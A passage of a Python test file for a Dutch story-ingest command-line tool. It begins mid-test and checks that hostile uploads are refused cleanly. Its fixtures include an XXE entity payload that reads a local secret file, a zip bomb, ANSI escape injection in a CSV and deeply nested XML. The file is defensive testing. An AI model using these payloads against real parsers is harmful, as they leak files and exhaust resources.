    before = store_snapshot(project)

    with pytest.raises(VerhalenError) as caught:
        ingest(project, [project.root / "s.csv"], narrafirma_form=form)

    assert str(caught.value) == f"{form}:3: 'laag' is geen getal"
    assert store_snapshot(project) == before


# -- the command line ------------------------------------------------------------------------------


def test_cli_refuses_hostile_files_in_clear_lines(project, bases, cli):
    root = project.root
    (root / "ruis.docx").write_bytes(bytes(range(256)) * 8)
    (root / "bom.xlsx").write_bytes(bomb(".xlsx", 40 * 2**20))
    (root / "xxe.odt").write_bytes(
        rezip(
            bases[".odt"],
            MAIN_PART[".odt"],
            with_doctype(f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{root}/geheim">]>', "&e;"),
        )
    )
    (root / "geheim").write_text(SECRET, encoding="utf-8")
    (root / "wie.csv").write_text('tekst,verteller\nHoi.,"\x1b[2J\nV99"\n', encoding="utf-8")
    (root / "deep.docx").write_bytes(
        rezip(
            bases[".docx"],
            MAIN_PART[".docx"],
            lambda x: x.replace(b"MARK", b"<a>" * 300 + b"</a>" * 300),
        )
    )
    before = store_snapshot(project)

    result = cli(
        "ingest",
        root / "ruis.docx",
        root / "bom.xlsx",
        root / "xxe.odt",
        root / "wie.csv",
        root / "deep.docx",
    )

    assert result.exit_code == 1
    assert isinstance(result.exception, SystemExit)  # not an exception from inside
    lines = result.stderr.strip().splitlines()
    assert lines[:-1] == [
        "bom.xlsx: archief pakt uit tot 40 MB, meer dan de grens van 200 MB",
        "deep.docx: onleesbaar bestand: de XML in het document is te diep genest",
        "ruis.docx: onleesbaar bestand: geen geldig document (File is not a zip file)",
        "wie.csv:2: onbekende verteller '[2J V99'",
        "xxe.odt: onleesbaar bestand: het document declareert XML-entiteiten (een DTD); die "
        "worden om veiligheidsredenen niet gelezen",
    ]
    assert lines[-1].startswith("5 problemen gevonden; niets ingelezen")
    assert "Traceback" not in result.output + result.stderr
    assert "\x1b" not in result.stderr.replace("\x1b[31m", "").replace("\x1b[0m", "")
    assert SECRET not in result.output + result.stderr
    assert store_snapshot(project) == before


def test_cli_english_project_gets_english_reasons(tmp_path, bases):
    from typer.testing import CliRunner

    from verhalen.cli.app import app
    from verhalen.project import init_project

    root = tmp_path / "en"
    project = init_project(root, lang="en")
    (root / "deep.docx").write_bytes(
        rezip(
            bases[".docx"],
            MAIN_PART[".docx"],
            lambda x: x.replace(b"MARK", b"<a>" * 300 + b"</a>" * 300),
        )
    )
    (root / "u16.txt").write_bytes(b"\xff\xfeE\x00e\x00n\x00x")
    before = store_snapshot(project)

    result = CliRunner().invoke(app, ["--project", str(root), "ingest", str(root)])

    assert result.exit_code == 1
    assert result.stderr.strip().splitlines()[:2] == [
        "deep.docx: unreadable file: the XML in the document is nested too deeply",
        "u16.txt: unreadable file: not valid UTF-16 text",
    ]
    assert store_snapshot(project) == before
